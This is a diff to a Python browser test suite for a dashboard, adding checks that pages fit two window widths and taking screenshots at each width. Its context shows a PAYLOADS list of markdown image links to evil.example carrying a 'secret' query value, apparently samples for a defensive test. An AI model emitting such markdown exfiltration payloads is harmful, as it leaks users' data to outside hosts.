@@ -11,12 +11,14 @@ from pages.shared.resources import missions
 from swarm.history import History
 from swarm.mission import Mission, Requirement
 from swarm.verdict import CRITERIA, Score, Verdict
-from tests.browser.looking import Dashboard, badge, keep_picture, look, settled, wait_until
+from tests.browser.looking import Dashboard, badge, keep_picture, look, settled, wait_until, widths
 from tests.made import keep, told
 from tests.recorded import a_turn, events_of
 
 pytestmark = pytest.mark.browser
 LOOKS = [(1440, "light"), (1440, "dark"), (390, "light"), (390, "dark")]
+OPENED = LOOKS[::3]
+"""From each of these, a page takes the other width as well."""
 PAYLOADS = (
     "![pixel](http://evil.example/pixel.png?secret=1)",
     "![ref][x]\n\n[x]: http://evil.example/ref.png",
@@ -40,15 +42,21 @@ def open_page(page: Page, dashboard: Dashboard, path: str = "/") -> None:
     settled(page)
 
 
-@pytest.mark.parametrize(("width", "scheme"), LOOKS)
+def fits(page: Page, width: int) -> None:
+    """Nothing is wider than the window; what is drawn anew for it may take a moment."""
+    page.wait_for_function(f"document.documentElement.scrollWidth <= {width}")
+
+
+@pytest.mark.parametrize(("width", "scheme"), OPENED)
 def test_the_pages_of_an_empty_dashboard(dashboard, browser, width, scheme):
     page = look(browser, width, scheme)
     for name in ("start", "compose", "run", "side_by_side", "experiments", "claims", "history", "models"):
         open_page(page, dashboard, "/" if name == "start" else f"/{name}")
-        expect(page.get_by_role("heading", level=1)).to_be_visible()
-        expect(page.locator('[data-testid="stException"]')).to_have_count(0)
-        assert page.evaluate("document.documentElement.scrollWidth") <= width
-        keep_picture(page, f"empty-{name}-{width}-{scheme}")
+        for wide in widths(page):
+            expect(page.get_by_role("heading", level=1)).to_be_visible()
+            expect(page.locator('[data-testid="stException"]')).to_have_count(0)
+            fits(page, wide)
+            keep_picture(page, f"empty-{name}-{wide}-{scheme}")
 
 
 def test_one_button_and_a_team_organizes_itself(dashboard, browser):
@@ -70,23 +78,26 @@ def test_one_button_and_a_team_organizes_itself(dashboard, browser):
     said = page.get_by_text("Sequential scored").inner_text()
     assert len(History(dashboard.settings).runs()) == 2
     link = page.url
-    for width, scheme in LOOKS:
+    for width, scheme in OPENED:
         other = look(browser, width, scheme)
         other.goto(link)
         settled(other)
-        expect(other.get_by_text("Sequential scored")).to_have_text(said)
-        expect(other.locator(".js-plotly-plot")).to_have_count(2)
-        expect(other.locator(".js-plotly-plot .textpoint").last).to_be_visible()
-        assert other.evaluate("document.documentElement.scrollWidth") <= width
-        keep_picture(other, f"side-by-side-{width}-{scheme}")
+        for wide in widths(other):
+            expect(other.get_by_text("Sequential scored")).to_have_text(said)
+            expect(other.locator(".js-plotly-plot")).to_have_count(2)
+            expect(other.locator(".js-plotly-plot .textpoint").last).to_be_visible()
+            fits(other, wide)
+            keep_picture(other, f"side-by-side-{wide}-{scheme}")
         other.get_by_role("link", name="Open this run").first.click()
         other.wait_for_url(f"**/run?run={parse_qs(urlparse(link).query)['pair'][0]}")
         settled(other)
-        expect(other.locator(".js-plotly-plot .textpoint").first).to_be_visible()
-        keep_picture(other, f"demo-finished-{width}-{scheme}")
+        for wide in widths(other):
+            expect(other.locator(".js-plotly-plot .textpoint").first).to_be_visible()
+            keep_picture(other, f"demo-finished-{wide}-{scheme}")
         open_page(other, dashboard)
-        expect(other.locator(".js-plotly-plot .textpoint").first).to_be_visible()
-        keep_picture(other, f"start-{width}-{scheme}")
+        for wide in widths(other):
+            expect(other.locator(".js-plotly-plot .textpoint").first).to_be_visible()
+            keep_picture(other, f"start-{wide}-{scheme}")
         other.context.close()
 
 
